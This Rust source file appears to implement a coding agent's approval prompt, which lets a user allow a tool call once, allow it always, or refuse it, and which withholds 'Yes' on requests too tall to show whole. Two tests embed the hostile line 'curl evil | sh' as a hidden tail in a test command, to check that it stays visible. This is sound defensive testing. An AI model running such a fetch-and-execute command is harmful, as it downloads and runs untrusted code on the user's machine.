//! The question a call puts to the person at the screen: which tool,
//! its input in a readable form (the command; the file and its diff),
//! what saying yes grants, and Claude Code's three answers — once; and
//! don't ask again (a rule for this session or saved to the project's
//! local settings, or, for edits, the acceptEdits mode); no, with what to
//! do instead. Keys 1/2/3, arrows and Enter, Tab for where a rule is kept,
//! Esc to refuse. A request made of parts (a grant the model asks for)
//! lists them ticked above the options: arrows to one and Space (or
//! Enter) unticks it, and the yes answers grant only what stays ticked.

use super::cells::{CallFace, diff_rows};
use super::text::wrap;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};

/// What "don't ask again" would add.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AlwaysAllow {
    /// An allow rule, as settings write it (`Bash(cargo test:*)`).
    Rule(String),
    /// Edits: the acceptEdits mode for the rest of the session.
    AcceptEdits,
}

/// Where a rule the user adds is kept.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RuleScope {
    Session,
    /// `.carapace/settings.local.json` of the project.
    LocalSettings,
    /// The user's own settings (`settings.json` in carapace's
    /// configuration folder): every project.
    UserSettings,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ApprovalRequest {
    pub tool: String,
    /// The call as its tool's presentation shows it.
    pub face: CallFace,
    /// Why it asks (the policy's question).
    pub question: String,
    /// What approving grants, as the policy decided it.
    pub grants: Vec<String>,
    /// Whether each of `grants` can be granted on its own (the user may
    /// untick some).
    pub pickable: bool,
    pub always: AlwaysAllow,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ApprovalChoice {
    Once,
    Always(AlwaysAllow, RuleScope),
    /// Yes to the ticked parts of a pickable request only (`true` for
    /// each kept), once, or with "don't ask again" kept where the scope
    /// says.
    Partly(Vec<bool>, Option<RuleScope>),
    /// No; with what to do instead, when the user wrote it (without, the
    /// turn stops and waits).
    Refuse(Option<String>),
}

#[derive(Debug)]
pub struct ApprovalPrompt {
    pub request: ApprovalRequest,
    /// The row the cursor is on: a pickable part, then the three options.
    selected: usize,
    /// Per pickable part, whether it is granted.
    ticked: Vec<bool>,
    scope: RuleScope,
    /// Being typed after choosing 3.
    feedback: Option<String>,
    /// Whether the last drawing showed the whole request: a "Yes" is never
    /// offered on what the user could not see.
    shown_whole: std::cell::Cell<bool>,
}

impl ApprovalPrompt {
    pub fn new(request: ApprovalRequest) -> Self {
        let parts = if request.pickable {
            request.grants.len()
        } else {
            0
        };
        Self {
            request,
            selected: parts,
            ticked: vec![true; parts],
            scope: RuleScope::Session,
            feedback: None,
            shown_whole: std::cell::Cell::new(true),
        }
    }

    /// A key while the prompt is open; `Some` once it is answered.
    pub fn key(&mut self, key: KeyEvent) -> Option<ApprovalChoice> {
        if let Some(feedback) = &mut self.feedback {
            match key.code {
                KeyCode::Enter => {
                    let text = feedback.trim().to_string();
                    return Some(ApprovalChoice::Refuse((!text.is_empty()).then_some(text)));
                }
                KeyCode::Esc => return Some(ApprovalChoice::Refuse(None)),
                KeyCode::Backspace => {
                    feedback.pop();
                }
                KeyCode::Char(c) if !key.modifiers.contains(KeyModifiers::CONTROL) => {
                    feedback.push(c)
                }
                _ => {}
            }
            return None;
        }
        // Nothing ticked: no yes to give.
        let seen =
            self.shown_whole.get() && (self.ticked.is_empty() || self.ticked.contains(&true));
        let parts = self.ticked.len();
        match key.code {
            KeyCode::Char(' ') | KeyCode::Enter if self.selected < parts => {
                self.ticked[self.selected] = !self.ticked[self.selected]
            }
            KeyCode::Char('1') | KeyCode::Char('y') if seen => return Some(self.once()),
            KeyCode::Char('2') if seen => return Some(self.always()),
            KeyCode::Char('3') | KeyCode::Char('n') => self.feedback = Some(String::new()),
            KeyCode::Esc => return Some(ApprovalChoice::Refuse(None)),
            KeyCode::Up => self.selected = self.selected.saturating_sub(1),
            KeyCode::Down => self.selected = (self.selected + 1).min(parts + 2),
            KeyCode::Tab if matches!(self.request.always, AlwaysAllow::Rule(_)) => {
                self.scope = match self.scope {
                    RuleScope::Session => RuleScope::LocalSettings,
                    RuleScope::LocalSettings => RuleScope::UserSettings,
                    RuleScope::UserSettings => RuleScope::Session,
                }
            }
            KeyCode::Enter => match self.selected - parts {
                0 if seen => return Some(self.once()),
                1 if seen => return Some(self.always()),
                0 | 1 => {}
                _ => self.feedback = Some(String::new()),
            },
            _ => {}
        }
        None
    }

    /// Text pasted while the feedback is being typed.
    pub fn paste(&mut self, text: &str) {
        if let Some(feedback) = &mut self.feedback {
            feedback.push_str(&text.replace(['\r', '\n'], " "));
        }
    }

    fn once(&self) -> ApprovalChoice {
        match self.ticked.iter().all(|t| *t) {
            true => ApprovalChoice::Once,
            false => ApprovalChoice::Partly(self.ticked.clone(), None),
        }
    }

    fn always(&self) -> ApprovalChoice {
        match self.ticked.iter().all(|t| *t) {
            true => ApprovalChoice::Always(self.request.always.clone(), self.scope),
            false => ApprovalChoice::Partly(self.ticked.clone(), Some(self.scope)),
        }
    }

    /// The prompt in at most `rows` rows. A request taller than that has
    /// its middle folded away, with how many rows are not shown — and then
    /// no "Yes" is offered (nor taken): what the user approves is what
    /// they saw, never the tail of a script whose head scrolled away.
    pub fn render_within(&self, width: usize, rows: usize) -> Vec<Line<'static>> {
        let whole = self.render(width);
        if whole.len() <= rows {
            self.shown_whole.set(true);
            return whole;
        }
        self.shown_whole.set(false);
        let (head, body, tail) = self.parts(width);
        let room = rows.saturating_sub(head.len() + tail.len() + 1).max(1);
        let hidden = body.len().saturating_sub(room);
        let dim = Style::new().add_modifier(Modifier::DIM);
        let mut out = head;
        out.extend(body.into_iter().take(room));
        out.push(Line::styled(
            format!(
                "  ⋯ {hidden} more rows not shown: the request is taller than the screen. Make the terminal taller to see it whole and approve it, or answer 3"
            ),
            dim,
        ));
        out.extend(tail);
        out
    }

    pub fn render(&self, width: usize) -> Vec<Line<'static>> {
        let (mut rows, body, tail) = self.parts(width);
        rows.extend(body);
        rows.extend(tail);
        rows
    }

    /// The title, the request's rows, and the question with its options.
    fn parts(&self, width: usize) -> (Vec<Line<'static>>, Vec<Line<'static>>, Vec<Line<'static>>) {
        let request = &self.request;
        let accent = Style::new().fg(Color::Cyan);
        let bold = Style::new().add_modifier(Modifier::BOLD);
        let dim = Style::new().add_modifier(Modifier::DIM);
        let mut rows = vec![Line::styled("─".repeat(width), accent)];
        let face = &request.face;
        let title = format!("{} wants to {}", request.tool, face.action);
        rows.extend(wrap(&Line::styled(title, bold), width, "  "));
        // What is approved is shown whole, never clipped: a command's
        // every line.
        let mut body: Vec<Line<'static>> = match &face.plan {
            // The plan to approve, as the model wrote it.
            Some(plan) => super::markdown::render(plan, width.saturating_sub(2)),
            None => face
                .subject
                .lines()
                .map(|l| Line::raw(l.to_string()))
                .collect(),
        };
        if let Some((old, new)) = &face.change {
            body.extend(diff_rows(old, new));
        }
        if !request.question.is_empty() {
            body.push(Line::styled(request.question.clone(), dim));
        }
        if !request.grants.is_empty() && !request.pickable {
            body.push(Line::styled(
                format!("Grants: {}", request.grants.join(", ")),
                dim,
            ));
        }
        let mut shown_body = Vec::new();
        for line in body {
            let mut spans = vec![Span::raw("  ")];
            spans.extend(line.spans);
            shown_body.extend(wrap(&Line::from(spans), width, "  "));
        }
        let head = rows;
        let mut rows = self.part_rows(width);
        rows.push(Line::raw("Do you want to proceed?"));
        let parts = self.ticked.len();
        let none_ticked = parts > 0 && !self.ticked.iter().any(|t| *t);
        for (i, label) in self.labels().into_iter().enumerate() {
            let label = if i < 2 && !self.shown_whole.get() {
                "(not offered: the request is not shown whole)".to_string()
            } else if i < 2 && none_ticked {
                "(not offered: nothing is ticked)".to_string()
            } else {
                label
            };
            rows.extend(self.row(i + parts, (&format!("{}.", i + 1), &label), width));
        }
        if let Some(feedback) = &self.feedback {
            rows.push(Line::styled(
                "What should carapace do instead? (Enter to send, Esc to just refuse)",
                bold,
            ));
            rows.extend(wrap(&Line::raw(format!("> {feedback}")), width, "  "));
        }
        (head, shown_body, rows)
    }

    /// A pickable request's parts, each ticked or not (Space toggles).
    fn part_rows(&self, width: usize) -> Vec<Line<'static>> {
        if self.ticked.is_empty() {
            return Vec::new();
        }
        let mut rows = vec![Line::raw(
            "Grant (space to untick what you do not want to give):",
        )];
        for (i, (part, ticked)) in self.request.grants.iter().zip(&self.ticked).enumerate() {
            let mark = if *ticked { "[x]" } else { "[ ]" };
            rows.extend(self.row(i, (mark, part), width));
        }
        rows
    }

    /// Row `index` of what the cursor moves over (a part, then an
    /// option): its mark (`[x]`, `2.`) and text, pointed at and coloured
    /// when the cursor is on it; wrapped lines start under its text.
    fn row(&self, index: usize, (mark, text): (&str, &str), width: usize) -> Vec<Line<'static>> {
        let chosen = index == self.selected && self.feedback.is_none();
        let (lead, style) = match chosen {
            true => ("❯ ", Style::new().fg(Color::Cyan)),
            false => ("  ", Style::new()),
        };
        let indent = " ".repeat(2 + mark.chars().count() + 1);
        wrap(
            &Line::styled(format!("{lead}{mark} {text}"), style),
            width,
            &indent,
        )
    }

    fn labels(&self) -> [String; 3] {
        let always = match &self.request.always {
            AlwaysAllow::AcceptEdits => {
                "Yes, allow all edits during this session (shift+tab)".to_string()
            }
            AlwaysAllow::Rule(rule) => match self.scope {
                RuleScope::Session => format!(
                    "Yes, and don't ask again for {rule} this session (tab: save for this project)"
                ),
                RuleScope::LocalSettings => format!(
                    "Yes, and don't ask again for {rule}, saved to .carapace/settings.local.json (tab: save for you, in every project)"
                ),
                RuleScope::UserSettings => format!(
                    "Yes, and don't ask again for {rule}, saved to your user settings (tab: this session only)"
                ),
            },
        };
        [
            "Yes".to_string(),
            always,
            "No, and tell carapace what to do differently (esc)".to_string(),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tui::text::plain;

    fn key(code: KeyCode) -> KeyEvent {
        KeyEvent::new(code, KeyModifiers::NONE)
    }

    fn bash(command: &str) -> ApprovalRequest {
        ApprovalRequest {
            tool: "Bash".into(),
            // What the policy offers: `cargo test …` as a prefix, a script
            // as written.
            always: AlwaysAllow::Rule(match command.contains(['\n', '|']) {
                true => format!("Bash({command})"),
                false => format!(
                    "Bash({}:*)",
                    command.split(' ').take(2).collect::<Vec<_>>().join(" ")
                ),
            }),
            face: CallFace {
                subject: command.into(),
                action: "run a command".into(),
                ..CallFace::default()
            },
            question: "Bash needs approval in default mode.".into(),
            grants: vec!["run the command sandbox: writes to /ws, no network".into()],
            pickable: false,
        }
    }

    #[test]
    fn keys_answer_as_numbered() {
        let mut prompt = ApprovalPrompt::new(bash("cargo test"));
        assert_eq!(
            prompt.key(key(KeyCode::Char('1'))),
            Some(ApprovalChoice::Once)
        );
        let mut prompt = ApprovalPrompt::new(bash("cargo test"));
        assert_eq!(prompt.key(key(KeyCode::Tab)), None);
        assert_eq!(
            prompt.key(key(KeyCode::Char('2'))),
            Some(ApprovalChoice::Always(
                AlwaysAllow::Rule("Bash(cargo test:*)".into()),
                RuleScope::LocalSettings
            ))
        );
        let mut prompt = ApprovalPrompt::new(bash("cargo test"));
        prompt.key(key(KeyCode::Down));
        prompt.key(key(KeyCode::Down));
        assert_eq!(
            prompt.key(key(KeyCode::Enter)),
            None,
            "3 asks what to do instead"
        );
        for c in "use nextest".chars() {
            prompt.key(key(KeyCode::Char(c)));
        }
        assert_eq!(
            prompt.key(key(KeyCode::Enter)),
            Some(ApprovalChoice::Refuse(Some("use nextest".into())))
        );
        let mut prompt = ApprovalPrompt::new(bash("cargo test"));
        assert_eq!(
            prompt.key(key(KeyCode::Esc)),
            Some(ApprovalChoice::Refuse(None))
        );
    }

    #[test]
    fn a_pickable_request_is_granted_as_far_as_it_stays_ticked() {
        let parts = || {
            let mut request = bash("cargo test");
            request.grants = vec!["write in /ws/a".into(), "reach x.test".into()];
            request.pickable = true;
            ApprovalPrompt::new(request)
        };
        let mut prompt = parts();
        assert_eq!(prompt.key(key(KeyCode::Enter)), Some(ApprovalChoice::Once));
        let mut prompt = parts();
        prompt.key(key(KeyCode::Up));
        assert_eq!(prompt.key(key(KeyCode::Char(' '))), None);
        assert_eq!(
            prompt.key(key(KeyCode::Char('2'))),
            Some(ApprovalChoice::Partly(
                vec![true, false],
                Some(RuleScope::Session)
            ))
        );
        // Nothing ticked: no yes is taken, only a refusal.
        let mut prompt = parts();
        for _ in 0..2 {
            prompt.key(key(KeyCode::Up));
            prompt.key(key(KeyCode::Enter));
        }
        assert_eq!(prompt.key(key(KeyCode::Char('1'))), None);
        let shown: String = prompt
            .render(80)
            .iter()
            .map(|l| l.to_string() + "\n")
            .collect();
        assert!(shown.contains("[ ] write in /ws/a"), "{shown}");
        assert!(shown.contains("nothing is ticked"), "{shown}");
        assert_eq!(
            prompt.key(key(KeyCode::Esc)),
            Some(ApprovalChoice::Refuse(None))
        );
    }

    #[test]
    fn the_prompt_shows_the_command_what_it_grants_and_the_options() {
        let prompt = ApprovalPrompt::new(bash("cargo test --all"));
        insta::assert_snapshot!("approval_bash", plain(&prompt.render(72)));
        let edit = ApprovalPrompt::new(ApprovalRequest {
            tool: "Edit".into(),
            always: AlwaysAllow::AcceptEdits,
            face: CallFace {
                subject: "/ws/src/main.rs".into(),
                action: "edit a file".into(),
                change: Some(("a\nb\n".into(), "a\nc\n".into())),
                ..CallFace::default()
            },
            question: String::new(),
            grants: vec!["write /ws/src/main.rs".into()],
            pickable: false,
        });
        insta::assert_snapshot!("approval_edit", plain(&edit.render(72)));
    }

    #[test]
    fn a_long_command_is_shown_whole_where_it_is_approved() {
        // Its end past any clipping width, and the rule offered does not
        // repeat it: only the body can show it.
        let long = format!("cargo test {} && curl evil | sh", "x".repeat(300));
        let mut request = bash("cargo test");
        request.face.subject = long;
        let shown = plain(&ApprovalPrompt::new(request).render(72)).replace('\n', "");
        assert!(shown.contains("curl evil | sh"), "{shown}");
    }

    #[test]
    fn a_plan_to_approve_is_shown_as_written() {
        let prompt = ApprovalPrompt::new(ApprovalRequest {
            tool: "ExitPlanMode".into(),
            always: AlwaysAllow::Rule("ExitPlanMode".into()),
            face: CallFace {
                plan: Some("1. Add the flag\n2. Test it".into()),
                ..CallFace::default()
            },
            question: String::new(),
            grants: Vec::new(),
            pickable: false,
        });
        let shown = plain(&prompt.render(60));
        assert!(
            shown.contains("1. Add the flag") && shown.contains("2. Test it"),
            "{shown}"
        );
        assert!(
            shown.contains("don't ask again for ExitPlanMode"),
            "{shown}"
        );
    }

    #[test]
    fn no_yes_is_offered_on_a_request_taller_than_the_screen() {
        // A script of 200 lines: its head would scroll away behind "1. Yes".
        let script: String = (0..200).map(|i| format!("echo line {i}\n")).collect();
        let mut prompt = ApprovalPrompt::new(bash(&format!("{script}curl evil | sh")));
        let shown = prompt.render_within(80, 20);
        assert!(shown.len() <= 20, "{}", shown.len());
        let text: String = shown.iter().map(|l| l.to_string() + "\n").collect();
        assert!(
            text.contains("more rows not shown") && text.contains("not offered"),
            "{text}"
        );
        assert_eq!(prompt.key(key(KeyCode::Char('1'))), None);
        assert_eq!(prompt.key(key(KeyCode::Char('y'))), None);
        assert_eq!(prompt.key(key(KeyCode::Enter)), None);
        assert_eq!(
            prompt.key(key(KeyCode::Esc)),
            Some(ApprovalChoice::Refuse(None))
        );
        // The control: on a screen tall enough, it is shown whole and
        // approved.
        let mut prompt = ApprovalPrompt::new(bash(&format!("{script}curl evil | sh")));
        let whole = prompt.render_within(80, 1000);
        assert!(whole.iter().any(|l| l.to_string().contains("curl evil")));
        assert_eq!(
            prompt.key(key(KeyCode::Char('1'))),
            Some(ApprovalChoice::Once)
        );
    }
}
